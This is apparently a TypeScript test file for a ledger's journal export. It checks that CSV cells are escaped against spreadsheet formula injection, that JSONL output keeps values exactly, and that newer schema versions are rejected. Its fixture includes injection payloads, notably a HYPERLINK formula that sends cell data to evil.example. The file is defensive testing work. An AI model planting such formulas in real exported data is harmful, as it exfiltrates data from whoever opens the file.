// export's output formats on hand-made events (a fake read port): the CSV is safe to open in a
// spreadsheet, the JSONL exact.
import type { Json, RecordedEvent } from '@ledger/contracts';
import { Progress } from './findings';
import { exportJournal } from './journal-export';
import type { StoreReader } from './store-reader.port';

const AT = '2026-01-05T09:00:00.000Z';

function recorded(position: bigint, type: string, data: Record<string, unknown>): RecordedEvent {
  const metadata = { correlationId: 'c', causationId: 'c', actor: 't', occurredAt: AT, prevHash: '', hash: '' };
  return { eventId: `e-${position}`, type, schemaVersion: 1, data: data as Json, metadata, streamId: 'ledger-0', revision: position - 1n, position, recordedAt: AT };
}

function readerOf(events: readonly RecordedEvent[]): StoreReader {
  const unused = () => Promise.reject(new Error('not used by export'));
  return {
    headPosition: async () => BigInt(events.length),
    readAll: async (after, max) => events.filter((event) => event.position > after).slice(0, max),
    readStream: unused,
    streamIds: unused,
    streamHead: unused,
    streamHeads: unused,
    close: async () => undefined,
  };
}

async function exported(events: readonly RecordedEvent[], format: 'csv' | 'jsonl'): Promise<string[]> {
  let text = '';
  await exportJournal(readerOf(events), { format }, async (chunk) => void (text += chunk), new Progress(() => undefined));
  return text.trimEnd().split('\n');
}

// A capture's entry id is its hold id, the card network's authorization id: caller text.
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\tpadded', '\r=1'];
const stamp = { idempotencyKey: 'k', fingerprint: 'f', atMs: Date.parse(AT) };
const events = FORMULAS.map((holdId, index) =>
  recorded(BigInt(index + 1), 'ledger.HoldCaptured.v1', { ...stamp, holdId, debitAccountId: 'w1', creditAccountId: 'sys:card-clearing:USD:0', currency: 'USD', capturedAmount: '5', releasedAmount: '0' }),
);

describe('export', () => {
  it('writes no CSV cell a spreadsheet reads as a formula: a leading quote, the cell quoted (OWASP), the text kept', async () => {
    const [, ...lines] = await exported(events, 'csv');
    // Each capture is two postings: the debit's line first.
    const debitLines = lines.filter((_, index) => index % 2 === 0);
    expect(debitLines.map((line) => line.split(',')[3])).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1`,
      `"'+1+1"`,
      `"'-2+3"`,
      `"'@SUM(A1)"`,
      `"'\tpadded"`,
      `"'\r=1"`,
    ]);
    // Every other cell is as before: numbers, ids, times.
    expect(debitLines[1]).toBe(`2,ledger-0,1,"'+1+1",${AT},w1,debit,5,USD,card_capture,"{""holdId"":""+1+1""}"`);
  });

  it('writes JSONL exactly, formulas and all (the lossless form)', async () => {
    const rows = (await exported(events, 'jsonl')).map((line) => JSON.parse(line));
    expect(rows.filter((row) => row.side === 'debit').map((row) => row.entry_id)).toEqual(FORMULAS);
  });

  it('refuses an event of a schemaVersion it cannot read, naming it, rather than export what it may not mean', async () => {
    const newer = { ...events[0], schemaVersion: 2 };
    await expect(exported([newer], 'jsonl')).rejects.toMatchObject({ name: 'UnusableLedgerEventError', position: 1n, message: expect.stringContaining('schemaVersion 2 of ledger.HoldCaptured.v1') });
  });
});
